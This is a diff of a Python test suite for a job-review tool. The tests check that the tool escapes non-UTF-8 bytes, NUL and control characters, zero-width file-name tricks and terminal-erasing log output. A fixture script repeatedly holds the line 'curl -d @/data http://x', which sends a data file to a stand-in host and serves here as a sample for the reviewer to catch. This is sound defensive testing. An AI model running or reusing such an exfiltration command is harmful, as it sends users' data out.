@@ -36,20 +36,20 @@ class ReviewEveryByte(Workspace):
         view = self.owner.review_job(j.uid)
         text = view.text()
         self.assertNotIn("Binary file", text)
-        self.assertIn("curl -d @/data http://x # caf\\xe9", text)
+        self.assertIn("curl -d @/data http://x # caf\u27e80xE9\u27e9", text)
         self.assertIn("!!! WARNING: run.sh holds 1 byte that is not UTF-8", text)
         markup = view._repr_html_()
-        self.assertIn("curl -d @/data http://x # caf\\xe9", html_text(markup))
+        self.assertIn("curl -d @/data http://x # caf\u27e80xE9\u27e9", html_text(markup))
         self.assertIn("scq-loud", markup)
         self.assertIn("caf\\xe9", self.owner.read_job_file(j.uid, "run.sh"))
         self.assertEqual(self.owner.read_job_file_bytes(j.uid, "run.sh"),
                          b"#!/bin/bash\necho caf\xc3\xa9\ncurl -d @/data http://x # caf\xe9\n")
-        self.assertIn("caf\\xe9", printed(self.owner.inspect_job, j.uid))
+        self.assertIn("caf\u27e80xE9\u27e9", printed(self.owner.inspect_job, j.uid))
 
     def test_nul_after_line_one_is_shown(self):
         j = self.job("nul", "echo ok", tail=b"\x00\necho after-the-nul\n")
         text = self.owner.review_job(j.uid).text()
-        self.assertIn("\\x00\necho after-the-nul", text)
+        self.assertIn("\u27e8NUL\u27e9\necho after-the-nul", text)
         self.assertIn("!!! WARNING: run.sh holds 1 NUL byte", text)
 
     def test_files_run_sh_runs_are_loud_others_quiet_all_escaped(self):
@@ -61,9 +61,9 @@ class ReviewEveryByte(Workspace):
         self.assertIn("!!! WARNING: tool holds", text)  # a "#!" line: it can run
         self.assertIn("Note: data.bin holds 1 NUL byte and 1 byte that is not UTF-8", text)
         self.assertNotIn("!!! WARNING: data.bin", text)
-        self.assertIn("echo \\xff leak", text)
-        self.assertIn("\\x00\\x01\\xfe", text)
-        self.assertIn("\\x00\\x01\\xfe", html_text(self.owner.review_job(j.uid)._repr_html_()))
+        self.assertIn("echo \u27e80xFF\u27e9 leak", text)
+        self.assertIn("\u27e8NUL\u27e9\u27e8SOH\u27e9\u27e80xFE\u27e9", text)
+        self.assertIn("\u27e8NUL\u27e9\u27e8SOH\u27e9\u27e80xFE\u27e9", html_text(self.owner.review_job(j.uid)._repr_html_()))
 
     def test_every_view_names_the_files_it_leaves_out(self):
         extra = {"f%d.py" % i: "".join("line_%d_%d = 1\n" % (i, n) for n in range(30))
@@ -110,14 +110,14 @@ class ReviewEveryByte(Workspace):
     def test_format_characters_in_file_names_are_escaped(self):
         j = self.job("zw", "echo real", extra={"run\u200b.sh": "echo decoy\n"})
         text = self.owner.review_job(j.uid).text()
-        self.assertIn("run\\u200b.sh", text)
+        self.assertIn("run\u27e8U+200B\u27e9.sh", text)
         self.assertIn("Trojan Source", text)
         self.assertNotIn("\u200b", text)
         m = self.owner.review_job(j.uid, full=True)._repr_html_()
-        self.assertIn("run\\u200b.sh", m)
+        self.assertIn("run\u27e8U+200B\u27e9.sh", m)
         self.assertNotIn("\u200b", m)
         left = self.owner.review_job(j.uid, file="run.sh")
-        self.assertIn("Not shown here: 1 file: run\\u200b.sh", left.text())
+        self.assertIn("Not shown here: 1 file: run\u27e8U+200B\u27e9.sh", left.text())
 
     def test_output_viewer_shows_binary_outputs_escaped(self):
         j = self.job("outbin", "printf 'ab\\377\\000cd' > \"$OUTPUT_DIR/r.bin\"")
@@ -127,7 +127,7 @@ class ReviewEveryByte(Workspace):
         self.assertEqual(job.read_output_file_bytes("r.bin"), b"ab\xff\x00cd")
         self.assertEqual(job.read_output_file("r.bin"), "ab\\xff\x00cd")
         m = html_text(job.output_viewer._repr_html_())
-        self.assertIn("ab\\xff\\x00cd", m)
+        self.assertIn("ab\u27e80xFF\u27e9\u27e8NUL\u27e9cd", m)
         self.assertIn("Note: r.bin holds 1 NUL byte and 1 byte that is not UTF-8", m)
 
 
@@ -136,11 +136,15 @@ ERASE = "printf 'secret-row\\r          \\r'; printf 'abc\\b\\b\\bxyz\\n'; print
 
 class LogViewsEscape(Workspace):
     def test_escape_log(self):
+        # the markers of `scq logs` (the library's escaper); newline and tab kept
         self.assertEqual(q.escape_log("secret-row\r          \r\n\tx"),
-                         "secret-row\\r          \\r\n\tx")
+                         "secret-row\u27e8CR\u27e9          \u27e8CR\u27e9\n\tx")
         self.assertEqual(q.escape_log(b"a\bb\x1b[2Kc\x7f\xc2\x9b\xff\xe2\x80\x8b\n"),
-                         "a\\x08b\\x1b[2Kc\\x7f\\x9b\\xff\\u200b\n")
+                         "a\u27e8BS\u27e9b\u27e8ESC\u27e9[2Kc\u27e8DEL\u27e9\u27e8U+009B\u27e9"
+                         "\u27e80xFF\u27e9\u27e8U+200B\u27e9\n")
         self.assertEqual(q.escape_log(None), "")
+        big = b"\xe2\x9f\xa8" * 400000 + b"\xff"  # across the 1 MiB pieces: no false 0xNN
+        self.assertEqual(q.escape_log(big), "\u27e8U+27E8\u27e9" * 400000 + "\u27e80xFF\u27e9")
 
     def ran(self):
         code = make_code(os.path.join(self.tmp, "erase"), body=ERASE)
@@ -154,8 +158,9 @@ class LogViewsEscape(Workspace):
         raw = job.get_logs()  # stays raw (documented)
         self.assertIn("secret-row\r          \r", raw)
         out = printed(job.show_logs)
-        self.assertIn("secret-row\\r          \\rabc\\x08\\x08\\x08xyz", out)
-        self.assertIn("E\\x1b[2K\\xff", out)
+        self.assertIn("secret-row\u27e8CR\u27e9          \u27e8CR\u27e9abc\u27e8BS\u27e9\u27e8BS\u27e9"
+                      "\u27e8BS\u27e9xyz", out)
+        self.assertIn("E\u27e8ESC\u27e9[2K\u27e80xFF\u27e9", out)
         for c in "\r\b\x1b":
             self.assertNotIn(c, out)
         self.assertEqual(printed(q.show_job_logs, job.uid), out)
@@ -168,7 +173,10 @@ class LogViewsEscape(Workspace):
         self.assertIn("show_logs()", _html._ACTIONS_JS)
         # the snippet, run as the page runs it, prints the escaped log
         out = printed(exec, sn, {"q": self.owner})
-        self.assertIn("secret-row\\r", out)
-        msg = _actions._act(self.owner.get_job(job.uid), "logs", None, None)
-        self.assertIn("secret-row\\r          \\rabc\\x08", msg)
-        self.assertIn("E\\x1b[2K\\xff", msg)  # the byte itself, not U+FFFD
+        self.assertIn("secret-row\u27e8CR\u27e9", out)
+        # the widget's Logs button: its status line shows the escaped log
+        box = type("Box", (), {"value": ""})()
+        _actions._say(box, _actions._act(self.owner.get_job(job.uid), "logs", None, None))
+        self.assertIn("secret-row\u27e8CR\u27e9          \u27e8CR\u27e9abc\u27e8BS\u27e9", box.value)
+        self.assertIn("E\u27e8ESC\u27e9[2K\u27e80xFF\u27e9", box.value)  # the byte, not U+FFFD
+        self.assertNotIn("\r", box.value)
